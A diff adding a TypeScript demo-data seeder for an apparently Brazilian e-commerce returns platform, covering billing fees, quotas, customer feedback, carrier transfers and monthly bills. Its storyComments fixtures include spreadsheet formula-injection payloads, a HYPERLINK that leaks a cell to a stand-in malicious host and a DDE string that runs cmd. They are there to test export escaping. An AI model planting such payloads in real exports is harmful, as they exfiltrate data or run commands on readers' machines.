@@ -1,0 +1,295 @@
+import { asc, eq, inArray, sql } from 'drizzle-orm'
+import { type BilledService, billedServices, feeOf } from '#contract/billing.ts'
+import type { Database } from '#server/db/database.ts'
+import { billingFees, billingQuotas, quotaUse, subscriptions } from '#server/db/schema/ecommerces.ts'
+import { billingItems, billings, courierTransfers, feedbacks } from '#server/db/schema/reports.ts'
+import { reverses } from '#server/db/schema/reverses.ts'
+import { firstDayOf, lastMonths } from '#server/features/ecommerces/billing.ts'
+import { demoToday } from './merchants.ts'
+import { demoPeople } from './people.ts'
+import { continueSequence, insertRows, type Random, seeded } from './random.ts'
+import { reverseStories, storyEcommerces } from './stories.ts'
+
+// What demo merchants pay and use: subscriptions of most, fees with their history, a year of use below, over and without a quota.
+
+/** Chance of its own: the rest of the demo does not depend on it. */
+const seed = 4217
+/** More would only make a large demo slow to load. */
+const mostMerchants = 300
+/** Every so many a merchant without a subscription, fees and use. */
+const emptyEach = 12
+
+type Quota = typeof billingQuotas.$inferSelect
+
+export async function seedBilling(db: Database, count: number): Promise<void> {
+  const random = seeded(seed)
+  const ids = Array.from({ length: Math.min(count, mostMerchants) }, (_, index) => index + 1)
+  const billed = ids.filter((id) => id % emptyEach !== 0)
+  await seedStory(db)
+  const quotas = await db
+    .select()
+    .from(billingQuotas)
+    .where(inArray(billingQuotas.ecommerce_id, billed))
+    .orderBy(asc(billingQuotas.ecommerce_id), asc(billingQuotas.service_code))
+  await insertRows(
+    db,
+    subscriptions,
+    billed.map((id) => subscriptionOf(random, id)),
+  )
+  const fees = billed.flatMap((id) => billedServices.flatMap((service) => feesOf(random, id, service)))
+  await insertRows(
+    db,
+    billingFees,
+    fees.map((fee, index) => ({ id: index + 1, ...fee })),
+  )
+  await continueSequence(db, billingFees)
+  await insertRows(
+    db,
+    quotaUse,
+    quotas.flatMap((quota) => useOf(random, quota)),
+  )
+}
+
+/** Loja Azul is over one quota, within another, and has one without a limit. */
+async function seedStory(db: Database): Promise<void> {
+  const ecommerce_id = storyEcommerces.lojaAzul
+  await db.delete(billingQuotas).where(eq(billingQuotas.ecommerce_id, ecommerce_id))
+  await insertRows(db, billingQuotas, [
+    { ecommerce_id, service_code: 'reverse.used', monthly_quota: 1200, unlimited_quota: false },
+    { ecommerce_id, service_code: 'refund.retained', monthly_quota: 400, unlimited_quota: false },
+    { ecommerce_id, service_code: 'order.used', monthly_quota: null, unlimited_quota: true },
+  ])
+}
+
+const reais = (cents: number) => (cents / 100).toFixed(2)
+
+function subscriptionOf(random: Random, ecommerce_id: number) {
+  const day = random.pick(['01', '05', '15', '28'])
+  return {
+    ecommerce_id,
+    frequency_id: random.pick([1, 2, 3, 3, 3, 3]),
+    frequency_fee: random.chance(0.05) ? '0.00' : reais(random.between(49, 2499) * 100 + random.pick([0, 90, 99])),
+    service_code: 'reverse',
+    started_at: `202${random.between(2, 5)}-${String(random.between(1, 12)).padStart(2, '0')}-${day}`,
+    version: 1,
+    created_at: demoToday.toISOString(),
+    updated_at: demoToday.toISOString(),
+  }
+}
+
+const writers = demoPeople
+  .map((person, index) => ({ ...person, id: index + 1 }))
+  .filter(({ account_type }) => ['ti', 'cs', 'n2'].includes(account_type))
+
+const comments = [
+  '',
+  '',
+  'Reajuste anual',
+  'Negociado com o lojista em reunião de 12/03',
+  'Campanha "Volta às aulas": 50% & frete grátis; ver ZD-41877',
+  'Aditivo contratual nº 7. Vale até a próxima renovação; qualquer mudança de volume acima de 20 % em dois meses seguidos reabre a negociação com o financeiro do lojista.',
+]
+
+/** Raised from year to year; some raises are still to come. */
+function feesOf(random: Random, ecommerce_id: number, service_code: BilledService) {
+  const isStory = ecommerce_id === storyEcommerces.lojaAzul
+  if (!isStory && random.chance(0.3)) return []
+  const first = random.between(2022, 2025)
+  const last = isStory || random.chance(0.2) ? 2027 : 2026
+  const month = String(random.between(1, 12)).padStart(2, '0')
+  let amount = random.between(9, 99) * 10
+  return Array.from({ length: last - first + 1 }, (_, year) => {
+    const person = random.pick(writers)
+    const start_at = `${first + year}-${year === 0 ? month : '01'}-01`
+    amount = Math.round(amount * (1 + random.between(0, 12) / 100))
+    const fee = { fixed_fee: null as string | null, variable_fee: null as string | null }
+    fee[feeOf(service_code)] = reais(feeOf(service_code) === 'fixed_fee' ? amount : amount % 500)
+    return {
+      ...{ ecommerce_id, service_code, start_at, ...fee },
+      comments: random.pick(comments),
+      user_id: person.id,
+      user_name: `${person.first_name} ${person.last_name}`,
+      created_at: demoToday.toISOString(),
+    }
+  })
+}
+
+/** Of the present month only its first half. */
+const shareOfMonth = 0.53
+
+function useOf(random: Random, { ecommerce_id, service_code, monthly_quota }: Quota) {
+  const isOver = ecommerce_id === storyEcommerces.lojaAzul ? service_code === 'reverse.used' : random.chance(0.25)
+  if (ecommerce_id !== storyEcommerces.lojaAzul && random.chance(0.15)) return []
+  const usual = (monthly_quota ?? random.between(2, 90) * 100) * (isOver ? 0.95 : 0.6)
+  const months = lastMonths(demoToday)
+  return months.map((month, index) => ({
+    ...{ ecommerce_id, service_code, month: firstDayOf(month) },
+    used: Math.round(usual * (random.between(75, 135) / 100) * (index === months.length - 1 ? shareOfMonth : 1)),
+  }))
+}
+
+// What demo reports are made of: where reverses were asked for, opinions of them, transfers to carriers, bills of almost three years.
+
+/** Chance of its own: the rest of the demo does not depend on it. */
+const reportsSeed = 7741
+/** More would only make a large demo slow to load. */
+const reportsMostMerchants = 300
+const mostBilled = 60
+const firstMonth = { year: 2024, month: 1 }
+const day = 86_400_000
+
+type Reverse = Pick<typeof reverses.$inferSelect, 'id' | 'ecommerce_id' | 'tracking_code' | 'created_at'>
+
+export async function seedReports(db: Database, count: number): Promise<void> {
+  const random = seeded(reportsSeed)
+  const ids = Array.from({ length: Math.min(count, reportsMostMerchants) }, (_, index) => index + 1)
+  await seedSources(db)
+  const rows = await db
+    .select({
+      id: reverses.id,
+      ecommerce_id: reverses.ecommerce_id,
+      tracking_code: reverses.tracking_code,
+      created_at: reverses.created_at,
+    })
+    .from(reverses)
+    .where(inArray(reverses.ecommerce_id, ids))
+    .orderBy(asc(reverses.id))
+  await insertRows(db, feedbacks, feedbacksOf(random, rows))
+  await insertRows(
+    db,
+    courierTransfers,
+    rows.flatMap((reverse) => transferOf(random, reverse)),
+  )
+  await seedBillings(db, random, ids.slice(0, mostBilled))
+}
+
+/** Most were asked for at the portal, which is what the column says by itself. */
+async function seedSources(db: Database): Promise<void> {
+  await db.execute(sql`
+    update reverses set source = (array['app', 'app', 'app', 'store', 'store', 'support', 'support', 'marketplace', 'api'])[1 + id * 7 % 9]
+    where id * 13 % 10 < 4`)
+}
+
+const reportsComments = [
+  ...[
+    '',
+    '',
+    '',
+    '',
+    '',
+    'Muito rápido, recomendo!',
+    'O código de postagem demorou três dias para chegar.',
+    'Tudo certo.',
+  ],
+  ...['Gostei da troca, mas a etiqueta veio com o endereço errado; precisei ligar.', 'nota 10 👏👏', 'Péssimo.'],
+  ...[
+    'A loja física não sabia receber a devolução.',
+    'Reembolso caiu antes do prazo 🙂',
+    'Coleta não apareceu 2 vezes',
+  ],
+]
+
+/** What a spreadsheet would run, misread or break, and what is only long. */
+const storyComments = [
+  '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+55 11 99999-0000 é o meu telefone',
+  '-10% de desconto no cupom; "prometido" no chat',
+  '-5',
+  '00042',
+  'Primeira linha\nsegunda linha;\r\n"terceira"',
+  '\tcomeça com tabulação',
+  `Longa história: ${'o produto veio, foi, voltou e ninguém avisou. '.repeat(40)}`,
+]
+
+function feedbacksOf(random: Random, rows: readonly Reverse[]) {
+  const byStory = rows.filter(({ id }) => id >= reverseStories.succeeds.id).slice(0, storyComments.length)
+  const told = byStory.map((reverse, index) => feedbackOf(random, reverse, storyComments[index] ?? ''))
+  const others = rows.filter((reverse) => !byStory.includes(reverse) && random.chance(0.35))
+  return [...others.map((reverse) => feedbackOf(random, reverse, random.pick(reportsComments))), ...told]
+}
+
+function feedbackOf(random: Random, { id, ecommerce_id, created_at }: Reverse, comment: string) {
+  const score = random.chance(0.6) ? random.between(8, 10) : random.between(0, 10)
+  const at = Math.min(created_at.getTime() + random.between(3, 20) * day, demoToday.getTime())
+  return { reverse_id: id, ecommerce_id, score, comment, created_at: new Date(at).toISOString() }
+}
+
+const carriers = [
+  { carrier: 'Correios', services: ['PAC Reverso', 'SEDEX Reverso'] },
+  { carrier: 'Jadlog', services: ['.Package', 'Pickup'] },
+  { carrier: 'Loggi', services: ['Expresso'] },
+  { carrier: 'Braspress', services: ['Rodoviário "porta a porta"; até 30 kg'] },
+] as const
+
+function transferOf(random: Random, { id, ecommerce_id, tracking_code, created_at }: Reverse) {
+  if (tracking_code === null || random.chance(0.4)) return []
+  const { carrier, services } = random.chance(0.6) ? carriers[0] : random.pick(carriers)
+  const freight = random.between(1290, 8990)
+  const on = Math.min(created_at.getTime() + random.between(10, 40) * day, demoToday.getTime())
+  return [
+    {
+      ...{ ecommerce_id, reverse_id: id, carrier, service: random.pick<string>(services), tracking_code },
+      freight: reportsReais(freight),
+      amount: reportsReais(Math.round(freight * (random.between(70, 92) / 100))),
+      transferred_on: new Date(on).toISOString().slice(0, 10),
+      created_at: demoToday.toISOString(),
+    },
+  ]
+}
+
+const reportsReais = (cents: number) => (cents / 100).toFixed(2)
+
+async function seedBillings(db: Database, random: Random, ids: readonly number[]): Promise<void> {
+  const made = ids
+    .flatMap((id) => (id % 12 === 0 ? [] : monthsOf(random, id)))
+    .map((billing, index) => ({ id: index + 1, ...billing }))
+  await insertRows(db, billings, made)
+  await continueSequence(db, billings)
+  await insertRows(
+    db,
+    billingItems,
+    made.flatMap((billing) => itemsOf(random, billing)),
+  )
+}
+
+/** Every month up to the present one. */
+function monthsOf(random: Random, ecommerce_id: number) {
+  const last = demoToday.getUTCFullYear() * 12 + demoToday.getUTCMonth()
+  const first =
+    firstMonth.year * 12 +
+    firstMonth.month -
+    1 +
+    (ecommerce_id === storyEcommerces.lojaAzul ? 0 : random.between(0, 18))
+  return Array.from({ length: last - first + 1 }, (_, index) => {
+    const [year, month] = [Math.floor((first + index) / 12), (first + index) % 12]
+    const date = (inMonth: number, at: number) =>
+      new Date(Date.UTC(year, month + inMonth, at)).toISOString().slice(0, 10)
+    return { ecommerce_id, started_at: date(0, 1), ended_at: date(1, 0), created_at: demoToday.toISOString() }
+  })
+}
+
+const services = [
+  { service_code: 'reverse.used', description: 'Reversas acima da cota', chance: 0.8, least: 120, most: 890 },
+  {
+    service_code: 'refund.retained',
+    description: 'Taxa sobre o valor retido; "retenção"',
+    chance: 0.6,
+    least: 40,
+    most: 2900,
+  },
+  { service_code: 'order.used', description: 'Pedidos acima da cota', chance: 0.3, least: 15, most: 75 },
+] as const
+
+function itemsOf(random: Random, { id }: { readonly id: number }) {
+  return services
+    .filter((service) => random.chance(service.chance))
+    .map(({ service_code, description, least, most }) => {
+      const quantity = random.between(1, 400)
+      const cents = random.between(least, most)
+      return {
+        ...{ billing_id: id, service_code, description, quantity, unit_price: reportsReais(cents) },
+        ...{ amount: reportsReais(cents * quantity), created_at: demoToday.toISOString() },
+      }
+    })
+}
